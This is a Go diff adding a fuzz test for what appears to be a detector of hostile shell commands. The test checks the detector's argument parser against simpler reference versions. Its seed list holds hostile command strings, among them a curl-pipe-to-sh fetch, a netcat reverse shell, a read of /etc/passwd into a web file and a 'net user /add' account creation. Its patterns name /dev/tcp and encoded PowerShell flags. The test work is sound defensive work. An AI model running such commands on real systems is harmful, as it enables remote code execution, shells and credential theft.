@@ -1,6 +1,7 @@
 package signature
 
 import (
+	"bytes"
 	"strings"
 	"testing"
 )
@@ -110,6 +111,172 @@ func FuzzLineWordsNoBreaks(f *testing.F) {
 			if gw != ww || gp != wp {
 				t.Fatalf("lineWords(%q) without breaks .at(%d) = %d %v, want %d %v", b, i, gw, gp, ww, wp)
 			}
+		}
+	})
+}
+
+// readArgsPlain is readArgs as first written: a loop over every byte to
+// find where the arguments end, a closure to separate the tokens, the
+// interpreters and fetchers sets looked up for every token.
+func readArgsPlain(b []byte, c *command, close byte, line bool) args {
+	a := args{empty: true}
+	i := c.end
+	end := i
+	for end < len(b) {
+		x := b[end]
+		if x == ';' || x == '|' || x == '\n' || x == '\r' || x == '`' || x == close && close != 0 ||
+			x == '&' && !(end > 0 && b[end-1] == '>') && !(end+1 < len(b) && b[end+1] == '>') ||
+			x == '$' && end+1 < len(b) && b[end+1] == '(' {
+			break
+		}
+		end++
+	}
+	a.end = end
+	span := b[i:end]
+	special := hostileArgsOfPlain(c.name)
+	first := true
+	tok := 0
+	// Tokens are separated by blanks, and by '+' where a value's spaces
+	// were encoded twice ("+|+dir+c:"); "chmod +x" keeps its '+'.
+	sep := func(k int) bool {
+		return span[k] == ' ' || span[k] == '\t' || span[k] == '+' && k > 0 && span[k-1] != ' '
+	}
+	for k := 0; k < len(span); {
+		for k < len(span) && (sep(k) || span[k] == '+') {
+			k++
+		}
+		s := k
+		for k < len(span) && !sep(k) {
+			k++
+		}
+		if s == k {
+			break
+		}
+		t := trimSet(span[s:k], &argTrim)
+		if len(t) == 0 {
+			continue
+		}
+		a.empty = false
+		tok++
+		sh := tokenShaped(t) || commandTokenWords.may(t) && commandTokens[string(t)]
+		if sh {
+			a.shaped = true
+			if tokenStrong(t) || len(t) == 2 && t[1] == ':' && winFileCommand(c.name) {
+				a.strong = true // "dir c:"
+			}
+		} else {
+			a.plain++
+		}
+		a.lastShaped = sh
+		if first {
+			first = false
+			tc := bytes.TrimSuffix(t, []byte(".exe"))
+			if commandClasses[string(tc)] != cmdUnknown {
+				a.command = true
+			}
+			if adminVerbs[string(t)] && adminCommand(c.name) || netVerbs[string(t)] && (string(c.name) == "net" || string(c.name) == "net1") {
+				a.admin = true // "net user", "reg add", "netsh firewall", "net view"
+			}
+		}
+		// only some commands' arguments are hostile; any command's
+		// hostileArg reads when they start with '%' or '/'
+		if (special || len(t) > 2 && (t[0] == '%' || t[0] == '/')) && hostileArgPlain(c, t, tok == 1, line) {
+			a.hostile = true
+		}
+	}
+	if !a.hostile && !a.empty {
+		var stack [256]byte
+		buf := stack[:0]
+		if len(span) > len(stack) {
+			// the arguments of a command in prose run on to the next
+			// ';': fold them into a pooled buffer, not a new one
+			p := longBuffers.Get().(*[]byte)
+			defer longBuffers.Put(p)
+			buf = (*p)[:0]
+		}
+		if f, _ := pathFoldBytes(buf, span); hostileSpan(f, c) {
+			a.hostile = true
+		}
+	}
+	return a
+}
+
+// hostileArgPlain is hostileArg as first written.
+func hostileArgPlain(c *command, t []byte, first, line bool) bool {
+	// keep in step with hostileArgsOf
+	name := string(c.name)
+	switch {
+	case len(t) > 2 && t[0] == '%' && bytes.IndexByte(t[1:], '%') > 0:
+		return isEnvName(string(t[1 : 1+bytes.IndexByte(t[1:], '%')])) // %SYSTEMROOT%, %SYSTEMROOT%\repair
+	case bytes.HasPrefix(t, []byte("/dev/tcp/")) || bytes.HasPrefix(t, []byte("/dev/udp/")):
+		return true
+	case interpreters[name]:
+		switch string(t) {
+		case "-e", "-c", "-r", "-i", "-enc", "-encodedcommand", "-nop", "-noprofile", "-command", "-w", "-windowstyle",
+			"-ep", "-executionpolicy", "/c", "/k", "-exec", "-noni", "-noninteractive":
+			return true
+		}
+	case fetchers[name]:
+		return bytes.Contains(t, []byte("://")) || name != "get" && ipLike(t) || string(t) == "-e" || string(t) == "-lvp" ||
+			string(t) == "-lvvp" || string(t) == "-nlvp" || string(t) == "-urlcache" || string(t) == "/transfer"
+	case name == "ping" || name == "nslookup" || name == "dig" || name == "host" || name == "traceroute" || name == "tracert":
+		// a probe of the network or an out-of-band channel: "ping -c 3
+		// x", "nslookup x.burpcollaborator.net"
+		return first && (ipLike(t) || domainLike(t) || string(t) == "-c" || string(t) == "-n" || string(t) == "-i")
+	case name == "sleep" || name == "timeout" || name == "start-sleep":
+		return first && isNumber(t) && !line // a delay probe after a separator; "sleep 10" alone may be a search
+	case first && (name == "which" || name == "whereis" || name == "where"):
+		return commandClasses[string(t)] == cmdName || commandClasses[string(t)] == cmdProbe || interpreters[string(t)] || fetchers[string(t)]
+	case name == "echo" || name == "printf" || name == "print":
+		return bytes.Contains(t, []byte("<?php")) || bytes.Contains(t, []byte("<?="))
+	}
+	return false
+}
+
+// hostileArgsOfPlain is hostileArgsOf as first written.
+func hostileArgsOfPlain(name []byte) bool {
+	if interpreters[string(name)] || fetchers[string(name)] {
+		return true
+	}
+	switch string(name) {
+	case "ping", "nslookup", "dig", "host", "traceroute", "tracert", "sleep", "timeout", "start-sleep", "which", "whereis",
+		"where", "echo", "printf", "print":
+		return true
+	}
+	return false
+}
+
+// FuzzReadArgs checks readArgs against its first form, for the command
+// word at the start of a folded value and after each byte of it, with
+// each closing byte, and hostileArgsOf against its first form.
+func FuzzReadArgs(f *testing.F) {
+	for _, s := range cmdFuzzSeeds {
+		f.Add(s)
+	}
+	for _, s := range []string{"ping -c 3 x.burpcollaborator.net", "curl http://x/s.sh|sh", "nc -lvp 4444 -e /bin/sh",
+		"which python;", "sleep 10 & echo <?php x", "cmd /c whoami", "net user x /add", "chmod +x /tmp/s+|+dir+c:\\",
+		"cat /etc/passwd > /var/www/x.php", "type %SYSTEMROOT%\\win.ini", "echo a 2>&1 && b", "$(curl x)$(id)"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		var st shellText
+		b := shellFold(&st, nil, s)
+		var nb [48]byte
+		for i := 0; i <= len(b) && i < 64; i++ {
+			c, ok := commandWord(b, i, nb[:0])
+			if !ok {
+				continue
+			}
+			for _, close := range []byte{0, ')', '`'} {
+				for _, line := range []bool{false, true} {
+					if got, want := readArgs(b, &c, close, line), readArgsPlain(b, &c, close, line); got != want {
+						t.Fatalf("readArgs(%q at %d, %q, %v) = %+v, want %+v", b, i, close, line, got, want)
+					}
+				}
+			}
+		}
+		if got, want := hostileArgsOf([]byte(s)), hostileArgsOfPlain([]byte(s)); got != want {
+			t.Fatalf("hostileArgsOf(%q) = %v, want %v", s, got, want)
 		}
 	})
 }
